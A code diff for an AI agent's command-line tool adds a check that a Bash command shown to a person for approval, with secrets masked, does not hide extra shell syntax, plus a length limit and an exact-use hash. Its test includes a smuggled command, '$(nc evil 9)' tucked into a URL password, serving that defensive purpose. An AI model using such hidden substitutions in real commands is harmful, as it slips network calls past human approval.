@@ -1,6 +1,7 @@
 //! Requests of the CLI that a person decides: what they become as questions, and how the answers go back.
 
 use serde_json::{Map, Value};
+use sha2::{Digest, Sha256};
 
 use crate::edge::agent::plain::{one_line, visible};
 use crate::model::question::{About, Choice, LONGEST, Offer, Reply};
@@ -35,6 +36,30 @@ pub(super) fn of_tool(tool: &str, input: &Value, shown: &Value) -> Option<Pendin
         _ => return None,
     };
     Some(Pending { input: input.clone(), about })
+}
+
+/// The signs with which a shell does more than name things.
+const SHELL: &str = "$`|&;<>(){}*?!\\\"'\n";
+
+/// Says why a person could not decide about a tool's use: what is shown of it does not show all that it would do.
+pub(super) fn unreadable(tool: &str, input: &Value, shown: &Value) -> Option<&'static str> {
+    let text = |value: &Value| match (tool, value["command"].as_str()) {
+        ("Bash", Some(command)) => command.to_owned(),
+        _ => serde_json::to_string_pretty(value).unwrap_or_default(),
+    };
+    let (input, shown) = (text(input), text(shown));
+    if shown.chars().count() > LONGEST {
+        return Some("it is too long for a person to read; put it into a file of the workspace");
+    }
+    let signs = |text: &str| text.chars().filter(|letter| SHELL.contains(*letter)).count();
+    (tool == "Bash" && signs(&input) != signs(&shown))
+        .then_some("what looks like a secret in it holds more than a secret; put that into a variable")
+}
+
+/// Returns what stands for exactly this use of a tool.
+pub(super) fn exact(tool: &str, input: &Value) -> String {
+    let hash = Sha256::digest(format!("{tool}\n{input}"));
+    hash.iter().map(|byte| format!("{byte:02x}")).collect()
 }
 
 /// Turns a tool's use into the question whether it may be used; `why` says why it is asked.
@@ -168,6 +193,23 @@ mod tests {
         assert_eq!(said["updatedInput"], input, "what is allowed is what was asked, untouched");
         let said = answered(&pending.answer("r", &Reply::Deny { why: String::new() }, "Use ls."));
         assert_eq!(said["message"], "The user said no. Use ls.");
+    }
+
+    #[test]
+    fn what_hides_behind_a_cover_is_not_asked_about() {
+        let bash = |command: &str| json!({ "command": command });
+        let plain = bash("curl -H 'Authorization: ghp_abc' http://h");
+        let covered = bash("curl -H 'Authorization: [secret: a GitHub token]' http://h");
+        assert_eq!(unreadable("Bash", &plain, &covered), None);
+        let hides = bash("curl http://a:x$(nc evil 9)@h");
+        assert!(unreadable("Bash", &hides, &bash("curl http://a:[secret: a password in a URL]@h")).is_some());
+        let long = bash(&"x".repeat(LONGEST + 1));
+        assert!(unreadable("Bash", &long, &long).is_some());
+        assert_ne!(
+            exact("Bash", &plain),
+            exact("Bash", &covered),
+            "what is allowed is what was asked, not what was shown"
+        );
     }
 
     #[test]
